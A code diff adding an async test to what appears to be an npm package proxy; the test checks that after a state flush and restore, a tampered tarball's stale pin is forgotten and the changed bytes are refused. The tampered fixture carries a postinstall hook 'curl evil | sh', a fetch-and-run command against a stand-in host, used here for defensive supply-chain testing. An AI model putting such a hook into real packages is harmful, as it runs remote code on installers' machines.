@@ -160,6 +160,56 @@ async def test_changed_bytes_after_the_state_was_lost_are_refused_by_the_copys_p
     assert integrity_of(await served.read()) == npm.version(PACKAGE, "1.0.0").integrity
 
 
+async def test_a_pin_the_emptied_state_took_before_the_loss_showed_does_not_outlive_it(
+    aiohttp_client: AiohttpClient,
+    npm: FakeNpmRegistry,
+    redis_url_of_its_own: str,
+    tmp_path: Path,
+) -> None:
+    """Between the flush and a worker's identity check (up to a second), a worker that never
+    saw a file's pin can fetch changed bytes and pin them, in the emptied state and in its
+    memory: once the state is untrusted, and again once it is restored, that memory pin is
+    forgotten and the copy's wins."""
+    url = redis_url_of_its_own
+    data = tmp_path / "data"
+    config = config_for(data, npm, url)
+    client = await aiohttp_client(create_app(config))
+    assert await wait_until_async(lambda: ready(client), 10)
+    assert (await client.get(TARBALL)).status == 200
+    pinned = await redis_pin(url)
+    services = client.app[SERVICES]
+    await services.state.add_rule(unrelated_block())
+    await services.policy.reload()
+
+    def copied() -> bool:
+        known = lastknown.load(lastknown.path_in(data))
+        return known is not None and known.digests.get("npm", {}).get(KEY) == pinned
+
+    assert await wait_until(copied, 5)
+    # Another worker of the same data dir, which has not seen the file's pin.
+    other = await aiohttp_client(create_app(config))
+    assert await wait_until_async(lambda: ready(other), 10)
+    changed = make_tarball(PACKAGE, "1.0.0", extra={"postinstall": "curl evil | sh"})
+    npm.replace_tarball(PACKAGE, "1.0.0", changed)
+    await evict(client)
+    await flush(url)
+    # At once, before the identity check: served (nothing can tell yet) unless the check
+    # happened to run in between.
+    first = await other.get(TARBALL)
+    assert first.status in (200, 502)
+    other_policy = other.app[SERVICES].policy
+    assert await wait_until(lambda: other_policy.degraded is not None, 5)
+    if first.status == 200:
+        await evict(other)
+    assert (await other.get(TARBALL)).status == 502
+
+    assert (await stateadmin.restore(config)).problem is None
+    assert await wait_until_async(lambda: ready(other), 5)
+    assert await redis_pin(url) == pinned
+    refused = await other.get(TARBALL)  # not stored: the miss asks the pin again
+    assert refused.status == 502, (await refused.read())[:200]
+
+
 def unrelated_block() -> RuleRecord:
     return RuleRecord(
         id="b-unrelated", kind="block", ecosystem="npm", package="unrelated", versions="*",
